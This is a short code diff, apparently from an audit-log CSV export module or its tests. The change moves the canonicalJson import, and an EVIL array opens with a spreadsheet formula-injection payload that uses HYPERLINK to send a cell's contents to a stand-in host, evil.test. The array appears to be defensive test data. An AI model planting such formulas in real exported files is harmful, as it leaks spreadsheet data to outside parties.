@@ -19,7 +19,8 @@ import {
   writeJsonlExport,
   type RecordSource,
 } from './csv.js';
-import { AUDIT_COLUMNS, canonicalJson, eventHash, type AuditRecord } from './event.js';
+import { canonicalJson } from '../crypto/primitives/canonical-json.js';
+import { AUDIT_COLUMNS, eventHash, type AuditRecord } from './event.js';
 
 const EVIL = [
   '=HYPERLINK("http://evil.test/?"&A1,"click")',
